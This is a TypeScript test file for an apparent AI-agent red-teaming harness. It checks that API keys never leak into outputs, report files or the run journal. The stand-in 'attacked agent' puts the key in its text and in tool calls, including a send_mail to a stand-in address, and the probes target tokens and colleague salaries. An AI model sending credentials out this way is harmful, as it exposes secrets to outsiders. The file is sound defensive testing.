import { join } from 'node:path';
import { expect, test } from 'vitest';
import { attackedAgent, type UnderAttack } from '../stand-ins/attacked-agent.ts';
import type { Fault, StandInRequest } from '../stand-ins/stand-in.ts';
import { filesBelow, runHere, SCENE_KEY, startBuilt } from '../support/judge-scene.ts';
import { runIn } from '../support/session-scene.ts';
import { BOTH_ARMS, ON_MODEL, threatScene } from '../support/threat-run-scene.ts';

/** A key of another provider, without a shape that could give it away. */
const SHAPELESS = 'correct/horse+battery=staple-7';
const PROBES = ['--only', 'db-vendor-log-token,db-public-issue-config,db-colleague-salary'];
const FORMATS = ['text', 'json', 'markdown', 'html', 'junit'];

const spelled = (key: string) => `${key} and ${encodeURIComponent(key)}`;
const keyOf = ({ headers }: StandInRequest) => String(headers['x-api-key']);

/** Says the key that it was asked with wherever it can: in words, in arguments, in the names of tools. */
const tellTale: UnderAttack = (step) => {
  const key = keyOf(step);
  if (step.turn > 1) return { text: `Here is the summary, with ${spelled(key)}.` };
  return {
    text: spelled(key),
    toolCalls: [
      { name: 'read_file', input: { path: key } },
      { name: 'send_mail', input: { to: 'a@b.example', subject: spelled(key), body: [key, { [key]: key }] } },
      { name: 'no_such_tool', input: { key } },
    ],
  };
};

/** A refusal in the words of the provider, with the key in it. */
const refusal = (request: StandInRequest): Fault | null =>
  request.texts.some((text) => text.includes('brackwater-orm')) && request.turn === 2
    ? {
        kind: 'status',
        status: 400,
        body: { type: 'error', error: { type: 'x', message: spelled(keyOf(request)) } },
      }
    : null;

test.each([
  ['one target', ON_MODEL, ['--responses', 'out/answers.jsonl']],
  ['two arms', BOTH_ARMS, ['--responses', 'out/answers.jsonl']],
] as const)('%s: no key is in any output or file, whatever the endpoint says', async (_, target, more) => {
  const scene = await threatScene({ answer: attackedAgent(tellTale), faults: refusal });
  const others = { OPENAI_API_KEY: SHAPELESS };
  const command = [...target, ...PROBES, ...more, '--verbose'];
  const ended = await startBuilt(
    scene,
    [...command, ...FORMATS.flatMap((format) => ['-o', `${format}:out/report.${format}`])],
    others,
  ).ended;
  // What was refused made evidence before.
  expect([ended.code, ended.stderr]).toEqual([expect.any(Number), expect.stringContaining(' calls, ')]);
  expect(scene.standIn.requests.every((request) => keyOf(request) === SCENE_KEY)).toBe(true);

  const shown = await runHere(scene, ['runs', 'show', runIn(ended.stderr), '--output', 'json'], others);
  const printed = [ended.stdout, ended.stderr, shown.stdout, shown.stderr].join('\n');
  const left = new Map([...filesBelow(scene.root), ['printed', printed]]);
  expect([...left.keys()]).toContain(join(scene.home, 'journal.sqlite'));
  const leaks = [...left].flatMap(([place, text]) =>
    [SCENE_KEY, SHAPELESS].some((key) =>
      spelled(key)
        .split(' and ')
        .some((one) => text.includes(one)),
    )
      ? [place]
      : [],
  );
  expect(leaks).toEqual([]);
  // It did say it, and its words are there otherwise.
  expect(printed).toContain('Here is the summary, with ');
});
